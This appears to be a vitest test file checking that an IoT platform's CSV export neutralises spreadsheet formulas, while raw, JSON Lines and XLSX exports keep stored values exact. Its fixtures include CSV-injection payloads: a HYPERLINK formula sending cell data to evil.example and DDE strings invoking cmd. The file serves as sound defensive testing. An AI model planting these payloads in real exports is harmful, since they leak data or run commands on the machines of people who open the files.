/**
 * CSV exports neutralise spreadsheet formulas (OWASP CSV injection): a device with a push token stores
 * formula-looking STRING values through a real rule; the administrator's CSV export carries them with a
 * leading `'`, `formulas=raw` gives them back exactly, and JSON Lines is always exact. XLSX writes them
 * as inline strings, exactly and never as formulas.
 */
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { admin, bearer, parseCsv, raw } from '../support/client.js';
import { type TestService, startService } from '../support/service.js';

/** [stored value, expected CSV cell by default]. */
const CASES: Array<[string, string]> = [
  ['=HYPERLINK("http://evil.example/?x="&A1,"click")', `'=HYPERLINK("http://evil.example/?x="&A1,"click")`],
  ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
  ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
  ['@SUM(1+1)', "'@SUM(1+1)"],
  ['\t=1+1', "'\t=1+1"],
  ['\r=1+1', "'\r=1+1"],
  ['-', "'-"],
  ['-12.5', '-12.5'],
  ['+3', '+3'],
  ['-1e5', '-1e5'],
  ['a=b+c', 'a=b+c'],
  ['plain text', 'plain text'],
];

const RULE = (model: string): string => `Actions = {
    function(args)
        local t, err = json:J2T(args);
        if (err ~= nil) then Throw(err); return 0; end;
        local e = rds:Save("${model}", { note = t.note, place = t.place, temp = t.temp });
        if (e ~= nil) then Throw(e); return 0; end;
        return true, args;
    end
}`;

let svc: TestService;
let model: string;

async function exportOf(query: string): Promise<{ status: number; text: string; body: any }> {
  const r = await raw(svc.port, { path: `/api/v1/datacenter/exportData?uuid=${model}${query}`, headers: bearer(svc.config.main.adminToken) });
  return { status: r.status, text: r.text, body: r.body };
}

function csvRows(text: string): string[][] {
  expect(text.charCodeAt(0)).toBe(0xfeff);
  return parseCsv(text.slice(1));
}

beforeAll(async () => {
  svc = await startService({ logLevel: 'silent' });
  const created = await admin(svc.port, 'POST', '/api/v1/schema/create', { name: 'formulas', description: '' });
  model = created.body.data.uuid;
  for (const [name, type] of [['note', 'STRING'], ['place', 'GEO'], ['temp', 'FLOAT']]) {
    const a = await admin(svc.port, 'POST', '/api/v1/schema/properties/create', { schemaId: model, name, type });
    expect(a.status, a.text).toBe(200);
  }
  expect((await admin(svc.port, 'POST', `/api/v1/schema/publish?uuid=${model}`)).status).toBe(200);
  const input = await admin(svc.port, 'POST', '/api/v1/inends/create', { name: 'plc', type: 'HTTP', description: '' });
  const rule = await admin(svc.port, 'POST', '/api/v1/rules/create', {
    name: 'store', description: '', fromSource: [input.body.data.uuid], actions: RULE(model), success: '', failed: '',
  });
  expect(rule.status, rule.text).toBe(200);
  const lines = CASES.map(([note]) => JSON.stringify({ note, place: '-33.86,151.21', temp: -4.5 }));
  const pushed = await raw(svc.port, {
    method: 'POST',
    path: `/api/v1/inends/push?uuid=${input.body.data.uuid}`,
    headers: { ...bearer(input.body.data.token), 'Content-Type': 'application/x-ndjson' },
    body: lines.join('\n'),
  });
  expect(pushed.status, pushed.text).toBe(200);
  expect(pushed.body.data).toMatchObject({ accepted: CASES.length, failed: 0 });
}, 60_000);

afterAll(async () => svc?.close());

describe('CSV export and spreadsheet formulas', () => {
  it("prefixes ' to formula-looking STRING cells by default; plain signed numbers, GEO and FLOAT stay", async () => {
    for (const query of ['', '&format=csv&formulas=escape', '&formulas=']) {
      const r = await exportOf(query);
      expect(r.status, r.text).toBe(200);
      const rows = csvRows(r.text);
      expect(rows[0]).toEqual(['id', 'create_at', 'note', 'place', 'temp']);
      expect(rows.slice(1).map((row) => row[2])).toEqual(CASES.map(([, cell]) => cell));
      for (const row of rows.slice(1)) expect(row.slice(3)).toEqual(['-33.86,151.21', '-4.5']);
    }
  });

  it('formulas=raw writes the stored values exactly', async () => {
    const r = await exportOf('&format=csv&formulas=raw');
    expect(r.status, r.text).toBe(200);
    expect(csvRows(r.text).slice(1).map((row) => row[2])).toEqual(CASES.map(([stored]) => stored));
    expect((await exportOf('&formulas=RAW')).text).toBe(r.text);
  });

  it('JSON Lines is exact, whatever formulas says', async () => {
    for (const query of ['&format=jsonl', '&format=jsonl&formulas=escape']) {
      const r = await exportOf(query);
      expect(r.status, r.text).toBe(200);
      const records = r.text.trimEnd().split('\n').map((l) => JSON.parse(l));
      expect(records.map((rec) => rec.note)).toEqual(CASES.map(([stored]) => stored));
      expect(records[0]).toMatchObject({ place: '-33.86,151.21', temp: -4.5 });
    }
  });

  it('any other formulas value is a 400 naming the parameter', async () => {
    for (const query of ['&formulas=yes', '&formulas=raw&formulas=escape']) {
      const r = await exportOf(query);
      expect(r.status).toBe(400);
      expect(r.body).toEqual({ code: 400, msg: expect.stringContaining("parameter 'formulas'"), data: null });
    }
    expect((await exportOf('&formulas=yes')).body.msg).toBe(`parameter 'formulas' must be escape (the default) or raw, got "yes"`);
  });

  it('XLSX holds every value exactly as an inline string cell, never a formula', async () => {
    const res = await fetch(`http://127.0.0.1:${svc.port}/api/v1/datacenter/exportData?uuid=${model}&format=xlsx`, {
      headers: bearer(svc.config.main.adminToken),
    });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(res.headers.get('content-disposition')).toMatch(/filename="formulas-\d{8}-\d{6}\.xlsx"/);
    const bytes = Buffer.from(await res.arrayBuffer());
    const zip = await JSZip.loadAsync(bytes);
    const sheetXml = await zip.file('xl/worksheets/sheet1.xml')?.async('string');
    expect(sheetXml).toBeDefined();
    expect(sheetXml).not.toMatch(/<f[ >]/);
    expect(sheetXml).toContain('t="inlineStr"');
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(bytes as unknown as ArrayBuffer);
    const sheet = book.worksheets[0];
    expect(sheet.name).toBe('formulas');
    const text = (v: ExcelJS.CellValue): unknown => (v !== null && typeof v === 'object' && 'richText' in v ? v.richText.map((t) => t.text).join('') : v);
    expect([1, 2, 3, 4, 5].map((c) => text(sheet.getRow(1).getCell(c).value))).toEqual(['id', 'create_at', 'note', 'place', 'temp']);
    CASES.forEach(([stored], i) => {
      const row = sheet.getRow(i + 2);
      expect(row.getCell(1).value).toBe(i + 1);
      expect(row.getCell(2).value).toBeInstanceOf(Date);
      // XML reads a carriage return in text as a line feed: the one change XLSX makes (docs/api.md).
      expect(text(row.getCell(3).value)).toBe(stored.replaceAll('\r', '\n'));
      expect(row.getCell(3).formula).toBeUndefined();
      expect(text(row.getCell(4).value)).toBe('-33.86,151.21');
      expect(row.getCell(5).value).toBe(-4.5);
    });
  });
});
